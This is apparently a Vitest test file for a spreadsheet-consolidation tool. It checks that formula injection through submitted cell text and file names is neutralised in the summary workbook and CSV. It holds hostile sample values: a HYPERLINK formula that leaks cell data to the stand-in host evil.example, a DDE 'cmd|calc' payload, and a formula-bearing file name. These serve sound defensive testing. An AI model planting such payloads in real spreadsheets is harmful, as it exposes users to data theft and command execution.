import { execFile } from 'node:child_process';
import ExcelJS from 'exceljs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readZipEntries } from '../helpers/zip-reader.ts';
import { hasOpenpyxl, readWithOpenpyxl } from '../worker/summary/read-back.ts';

const ROOT = resolve(import.meta.dirname, '../..');
const SEED = join(ROOT, 'seeds/org-goals/akiha-2020-kenko-fukushi.xlsx');
const DANGEROUS = /^[=+\-@\t\r]/;
/**
 * The only formulas the summary writes: 概要's totals and rates over its own cells (SUM / IF of references), and
 * the headline, mokuhyo's own words with the 合計 row's rate cell as TEXT.
 */
const OWN_FORMULA =
  /^(SUM\([A-Z]+\d+:[A-Z]+\d+\)|IF\([A-Z]+\d+\+[A-Z]+\d+=0,"",[A-Z]+\d+\/\([A-Z]+\d+\+[A-Z]+\d+\)\)|"作成 [0-9/: ]+\u3000提出 [^"=+@]*"&IF\([A-Z]+\d+="","指標の達成割合 －（評価済みの指標なし）","指標の達成割合 "&TEXT\([A-Z]+\d+,"0\.0%"\)\))$/;

// Text a spreadsheet would run or a CSV reader would turn into a formula, placed where the summary copies it.
const INJECTED: Record<string, string> = {
  D11: '=HYPERLINK("http://evil.example/?"&A1,"認知症カフェ開催回数（回）")',
  B11: "+1+cmd|' /C calc'!A0",
  C11: '-2+3 地域づくり',
  J12: '@SUM(1+1)',
  D13: '\t=1+1 子育て講座等の開催回数（回）',
  J13: '\r=1+1 目標の回数',
};

async function hostileSeed(path: string): Promise<void> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(SEED);
  const ws = wb.worksheets[0]!;
  for (const [address, text] of Object.entries(INJECTED)) ws.getCell(address).value = text;
  await wb.xlsx.writeFile(path);
}

/** Splits RFC 4180 CSV (quoted fields, CRLF) into rows of unquoted fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (quoted) {
      field += ch;
    } else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\n' && text[i - 1] === '\r') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else if (ch !== '\r' || text[i + 1] !== '\n') {
      field += ch;
    }
  }
  return rows;
}

describe('formula injection through submitted text', () => {
  let dir: string;
  let summary: string;
  let csv: string;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'mokuhyo-formula-'));
    // The file name is submitted text too: it lands in 出典 and in the CSV's ファイル column.
    const file = join(dir, '=cmd|calc!A0.xlsx');
    await hostileSeed(file);
    summary = join(dir, 'summary.xlsx');
    csv = join(dir, 'measures.csv');
    await new Promise<void>((done, fail) =>
      execFile(
        process.execPath,
        [join(ROOT, 'bin/mokuhyo.js'), 'consolidate', '=cmd|calc!A0.xlsx', '-o', summary, '--csv', csv],
        { cwd: dir },
        (err, _out, stderr) => (err ? fail(new Error(stderr)) : done()),
      ),
    );
  }, 120_000);
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('writes no submitted text as a formula: the only formulas are 概要 totals and rates over its own cells', async () => {
    const entries = await readZipEntries(await readFile(summary));
    const sheets = entries.filter((e) => /^xl\/worksheets\/sheet\d+\.xml$/.test(e.name));
    expect(sheets.length).toBeGreaterThan(2);
    for (const s of sheets) {
      const xml = s.content.toString('utf8');
      // sheet1 is 概要; every other sheet (where submitted text is copied) has no formula element at all.
      if (s.name !== 'xl/worksheets/sheet1.xml') expect(xml, s.name).not.toMatch(/<f[ >]/);
      for (const [, f] of xml.matchAll(/<f>([^<]*)<\/f>/g))
        expect(f!.replace(/&quot;/g, '"').replace(/&amp;/g, '&'), s.name).toMatch(OWN_FORMULA);
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await readFile(summary)) as unknown as ArrayBuffer);
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) {
            expect(ws.name).toBe('概要');
            expect(cell.formula, `${ws.name}!${cell.address}`).toMatch(OWN_FORMULA);
          } else texts.push(cell.text);
        }),
      ),
    );
    expect(texts).toContain(INJECTED['D11']);
    expect(texts.some((t) => t.includes('+1+cmd'))).toBe(true);
  });

  it('a second reader (openpyxl) sees no formula cell but 概要 totals and rates over its own cells', async () => {
    if (!(await hasOpenpyxl())) return;
    const dump = await readWithOpenpyxl(summary);
    for (const [name, sheet] of Object.entries(dump)) {
      if (name !== '概要') expect(sheet.formulas, name).toEqual([]);
      for (const f of Object.values(sheet.formulaText)) expect(f.slice(1), name).toMatch(OWN_FORMULA);
    }
  });

  it('neutralises = + - @ tab and CR at the start of every CSV field', async () => {
    const text = (await readFile(csv, 'utf8')).replace(/^\ufeff/, '');
    const rows = parseCsv(text);
    expect(rows.length).toBeGreaterThan(3);
    const fields = rows.flat();
    expect(fields.filter((f) => DANGEROUS.test(f))).toEqual([]);
    expect(fields).toContain(`'${INJECTED['D11']}`);
    expect(fields.some((f) => f.startsWith("'=cmd|calc!A0"))).toBe(true);
    // The extractor trims the label, so the tab goes and the "=" behind it is what gets neutralised.
    expect(fields.some((f) => f.startsWith("'=1+1 子育て"))).toBe(true);
  });
});
